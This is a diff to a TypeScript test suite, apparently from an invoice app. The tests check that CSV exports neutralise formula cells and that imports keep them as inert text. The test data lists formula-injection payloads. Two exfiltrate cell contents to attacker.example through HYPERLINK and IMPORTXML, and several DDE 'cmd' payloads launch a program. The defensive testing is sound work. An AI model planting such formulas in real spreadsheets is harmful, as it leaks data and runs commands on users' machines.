@@ -11,15 +11,16 @@ import type { TimelineEvent } from '../../../utils/model/event';
 const FORMULAS = [
   '=HYPERLINK("http://attacker.example/?leak="&A1,"Voir la facture")',
   "=cmd|' /C calc'!A0",
-  '+SUM(1+1)*cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '=IMPORTXML(CONCAT("http://attacker.example/?", A2), "//a")',
 ];
 
-const cells = (csv: string, delimiter = ',') => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter, newline: '\r\n', skipEmptyLines: true }).data.flat();
+const cells = (csv: string, delimiter = ',') =>
+  Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter, newline: '\r\n', skipEmptyLines: true }).data.flat();
 
 describe('CSV formula cells', () => {
   it('csvCell neutralises every formula prefix with a leading apostrophe, and leaves plain text alone', () => {
@@ -33,11 +34,34 @@ describe('CSV formula cells', () => {
 
   it('the evidence CSV of a timeline full of formulas (subjects, notes, replies, invoice number) has no cell a spreadsheet would run', async () => {
     const events: TimelineEvent[] = [];
-    const add = async (kind: TimelineEvent['kind'], data: unknown) => events.push(await chainEvent(events.at(-1), { id: `e${events.length}`, invoiceId: 'i1', kind, data, recordedAt: '2026-11-20T10:00:00.000Z', occurredOn: '2026-11-20' } as never));
+    const add = async (kind: TimelineEvent['kind'], data: unknown) =>
+      events.push(
+        await chainEvent(events.at(-1), {
+          id: `e${events.length}`,
+          invoiceId: 'i1',
+          kind,
+          data,
+          recordedAt: '2026-11-20T10:00:00.000Z',
+          occurredOn: '2026-11-20',
+        } as never),
+      );
     for (const formula of FORMULAS) {
       await add('note', { text: formula });
-      await add('reminder-sent', { stage: 'reminder1', to: [{ name: formula, email: 'x@y.fr' }], subject: formula, body: `${formula}\n${formula}`, bodySha256: 'a'.repeat(64) });
-      await add('reply-received', { messageId: 'm', from: { name: formula, email: 'x@y.fr' }, excerpt: formula, kind: 'dispute', phrase: formula, receivedAt: '2026-11-20T10:00:00Z' });
+      await add('reminder-sent', {
+        stage: 'reminder1',
+        to: [{ name: formula, email: 'x@y.fr' }],
+        subject: formula,
+        body: `${formula}\n${formula}`,
+        bodySha256: 'a'.repeat(64),
+      });
+      await add('reply-received', {
+        messageId: 'm',
+        from: { name: formula, email: 'x@y.fr' },
+        excerpt: formula,
+        kind: 'dispute',
+        phrase: formula,
+        receivedAt: '2026-11-20T10:00:00Z',
+      });
     }
     for (const delimiter of [',', ';'] as const) {
       const csv = timelineCsv({ invoices: [{ id: 'i1', number: FORMULAS[0] }], events, delimiter });
@@ -50,7 +74,9 @@ describe('CSV formula cells', () => {
 
   it('an imported CSV keeps formula cells as inert text (never evaluated, never dropped), so they can be exported neutralised', () => {
     const header = 'Numéro;Client;E-mail;Date de facture;Montant TTC';
-    const rows = FORMULAS.slice(0, 5).map((formula, i) => `"${formula.replace(/"/g, '""')}";"${formula.replace(/"/g, '""')}";client${i}@exemple.fr;15/01/2026;1 200,00`);
+    const rows = FORMULAS.slice(0, 5).map(
+      (formula, i) => `"${formula.replace(/"/g, '""')}";"${formula.replace(/"/g, '""')}";client${i}@exemple.fr;15/01/2026;1 200,00`,
+    );
     const table = parseCsv([header, ...rows].join('\r\n'));
     const mapped = mapRows(table, guessMapping(table.headers), { currency: 'EUR', paymentTermsDays: 30 });
     expect(mapped.map((r) => r.invoice?.number)).toEqual(FORMULAS.slice(0, 5).map((f) => f.trim()));
